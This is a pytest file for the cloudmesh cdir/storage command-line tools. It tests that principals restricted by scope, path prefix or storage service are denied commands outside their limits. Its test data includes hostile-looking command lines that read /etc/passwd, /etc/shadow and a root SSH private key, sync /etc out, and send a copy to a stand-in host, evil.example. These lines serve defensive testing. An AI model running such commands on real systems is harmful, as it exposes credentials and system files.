"""Limits of a principal, on the usage lines themselves."""

from __future__ import annotations

import shlex
from contextlib import closing

import pytest

from cloudmesh.cdir.main import COMMANDS
from cloudmesh.cdir.service.security.arguments import check, role_of, services_for
from cloudmesh.cdir.service.security.principal import SCOPES, Principal
from cloudmesh.storage.errors import PermissionDenied
from cloudmesh.storage.services import Services

ALL = frozenset(SCOPES)
WRITER = Principal("writer", frozenset({"read", "write", "delete"}))
PREFIX = Principal("prefix", ALL, prefix="run7")
SERVICE = Principal("service", ALL, services=frozenset({"aws"}))
NAMES = ["aws", "box", "local"]


def may(principal: Principal, typed: str) -> bool:
    command, *argv = shlex.split(typed)
    match = COMMANDS[command].usage.match(argv)
    try:
        check(principal, command, match.operation, match.values, NAMES)
    except PermissionDenied:
        return False
    return True


@pytest.mark.parametrize("name", COMMANDS)
def test_it_was_decided_what_every_argument_stands_for(name: str) -> None:
    open_ones = [
        (operation.line, element.name)
        for operation in COMMANDS[name].usage.operations
        for element in operation.arguments
        if role_of(name, operation, element.name) is None
    ]
    assert open_ones == []


@pytest.mark.parametrize("name", COMMANDS)
def test_whoever_may_do_everything_may_name_everything(name: str) -> None:
    everything = Principal("all", ALL)
    for operation in COMMANDS[name].usage.operations:
        values = {element.name: "aws:/x" for element in operation.arguments}
        check(everything, name, operation, values, NAMES)


@pytest.mark.parametrize(
    "typed",
    [
        "vdir put /etc/passwd /run7",
        "vdir get /run7/x /tmp/x",
        "vdir export /tmp/x",
        "vdir import /tmp/x",
        "vdir copy /run7 --to=aws --filter-from=/etc/shadow",
        "storage put /etc/passwd aws:x",
        "storage get aws:x /tmp/x",
        "storage sync /etc aws:x",
        "storage sync aws:x /tmp/x",
        "storage copy aws:x box:x --cluster=tls://evil.example:8786",
        "storage copy aws:x box:x --filter-from=/etc/shadow",
        "storage vault export --to=/tmp/x",
        "storage vault init --identity=/root/.ssh/id_ed25519",
    ],
)
def test_files_of_the_computer_are_for_its_administrator(typed: str) -> None:
    assert not may(WRITER, typed)
    assert not may(PREFIX, typed)
    assert not may(SERVICE, typed)
    assert may(Principal("all", ALL), typed)


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("vdir ls /run7", True),
        ("vdir ls /run7/deep", True),
        ("vdir ls /run7/deep/..", True),
        ("vdir ls", False),
        ("vdir ls /", False),
        ("vdir ls /run70", False),
        ("vdir ls /run7/../other", False),
        ("vdir ls run7", True),
        ("vdir ls aws:/run7", False),
        ("vdir tree", False),
        ("vdir search '*'", False),
        ("vdir search '*' /run7", True),
        ("vdir cat /run7/x", True),
        ("vdir cat aws:/run7/x", True),
        ("vdir cat aws:/other", False),
        ("vdir cat nothing:/run7/x", False),
        ("vdir move /run7/a /run7/b", True),
        ("vdir move /run7/a /other", False),
        ("vdir move /other /run7/a", False),
        ("vdir delete", False),
        ("vdir delete /run7/x", True),
        ("vdir add aws:secret /run7", False),
        ("vdir status", False),
        ("vdir heal", False),
        ("vdir cd /run7", False),
        ("vdir copy /run7 --to=box", True),
        ("storage list aws:run7", False),
        ("storage config list", False),
    ],
)
def test_a_prefix(typed: str, expected: bool) -> None:
    assert may(PREFIX, typed) is expected


def test_a_prefix_counts_from_the_current_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CDIR_CWD", "/other")
    assert not may(PREFIX, "vdir ls run7")
    assert may(PREFIX, "vdir ls ../run7")


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("vdir ls", True),
        ("vdir cat aws:/x", True),
        ("vdir cat box:/x", False),
        ("vdir copy /x --to=aws", True),
        ("vdir copy /x --to=aws,box", False),
        ("vdir drop /x --from=box", False),
        ("vdir prefer /x box,aws", False),
        ("vdir add box:x", False),
        ("storage list aws:x", True),
        ("storage list box:x", False),
        ("storage --storage=box list x", False),
        ("storage copy aws:x aws:y", True),
        ("storage copy aws:x box:y", False),
        ("storage sync aws:x box:y", False),
        ("storage jobs list", False),
        ("storage config show aws", False),
        ("storage vault list", False),
    ],
)
def test_services(typed: str, expected: bool) -> None:
    assert may(SERVICE, typed) is expected


def test_no_default_and_no_rule_opens_another_service() -> None:
    with closing(Services()) as services:
        limited = services_for(Principal("limited", ALL, services=frozenset({"aws"})), services)
        with pytest.raises(PermissionDenied):
            limited.open("local")
        assert services_for(WRITER, services) is services
        also = services_for(Principal("limited", ALL, services=frozenset({"local"})), services)
        assert also.open("local") is services.open("local")
        also.close()
        assert services.opened()
